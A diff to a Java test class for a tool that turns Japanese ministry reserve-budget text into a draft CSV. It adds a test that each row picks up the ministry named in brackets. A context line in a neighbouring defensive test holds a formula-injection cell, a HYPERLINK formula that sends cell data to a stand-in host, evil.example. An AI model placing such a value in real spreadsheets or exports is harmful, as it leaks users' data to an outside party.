@@ -30,6 +30,29 @@ class DraftCsvTest {
   @TempDir Path tmp;
 
   @Test
+  void aRowTakesTheMinistryNamedInBracketsAfterItsFigure() throws IOException {
+    // a decision to use the reserve lists each program with its ministry: the rows are theirs, not --ministry's
+    SourceText text = SourceText.ofText("yobihi.txt", "・災害救助費等負担金　４５億円（内閣府）\n・災害廃棄物処理事業費補助金　３６億円（環境省）\n"
+        + "・公共土木施設災害復旧事業費　１２０億円（前年度 ８０億円）【国土交通省】\n・地域交通確保事業　５億円（新規）");
+    FiscalYear fy = FiscalYear.parse("令和7年度").orElseThrow();
+    List<String> written = List.of("４５億円", "３６億円", "１２０億円", "５億円");
+    List<String> programs = List.of("災害救助費等負担金", "災害廃棄物処理事業費補助金", "公共土木施設災害復旧事業費", "地域交通確保事業");
+    List<FoundItem> items = new java.util.ArrayList<>();
+    for (int i = 0; i < 4; i++) {
+      items.add(new FoundItem(programs.get(i), fy, BudgetKind.RESERVE, Amount.parse(written.get(i)), written.get(i), null,
+          text.lines().get(i), 0.9, List.of("t")));
+    }
+    var ministries = ImportEvaluationTest.ministries();
+    Ministry cao = ministries.find("内閣府").orElseThrow();
+    List<String> column = new java.util.ArrayList<>();
+    for (String line : Draft.csv(text, items, new Draft.Meta(fy, cao, BudgetKind.RESERVE, null, ministries), "").split("\n")) {
+      column.add(line.split(",")[1]);
+    }
+    assertEquals(List.of("ministry", "cao", ministries.find("環境省").orElseThrow().id(), ministries.find("国土交通省").orElseThrow().id(), "cao"),
+        column);
+  }
+
+  @Test
   void formulaLikeCellsAreNotEvaluatedAndReadBackAsFound() throws IOException {
     String name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"事業\")";
     SourceText text = SourceText.ofText("plan.txt", name + "　-3億円\n@事業 1億円\n");
